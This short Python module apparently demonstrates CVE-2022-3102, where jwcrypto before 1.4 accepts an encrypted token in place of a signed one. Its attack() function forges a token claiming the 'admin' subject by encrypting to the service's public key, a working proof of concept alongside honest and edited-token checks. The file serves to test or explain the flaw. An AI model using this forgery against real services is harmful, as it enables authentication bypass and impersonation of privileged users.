"""An encrypted token passes for a signed one.

A service verifies with a JWK that holds its whole key pair.  Anybody can
encrypt to the public half, and jwcrypto before 1.4 accepts a token of
either kind: what decrypts counts as verified.  CVE-2022-3102.
"""

import json

from by_hand import KEYS, TOKENS, edit
from jwcrypto.common import JWException
from jwcrypto.jwk import JWK
from jwcrypto.jwt import JWT

REFUSALS = (JWException, (TypeError, "Expected JWS, got JWE"))
PAIR = JWK.from_pem(KEYS["rsa"].encode())
PUBLIC = JWK.from_pem(KEYS["rsa_public"].encode())


def enters(token: str) -> str:
    return json.loads(JWT(jwt=token, key=PAIR).claims)["sub"]


def honest() -> bool:
    return enters(TOKENS["RS256"]) == "alice"


def edited() -> bool:
    return enters(edit(TOKENS["RS256"])) == "admin"


def attack() -> bool:
    forged = JWT(
        header={"alg": "RSA-OAEP", "enc": "A256GCM"},
        claims={"sub": "admin"},
    )
    forged.make_encrypted_token(PUBLIC)
    return enters(forged.serialize()) == "admin"
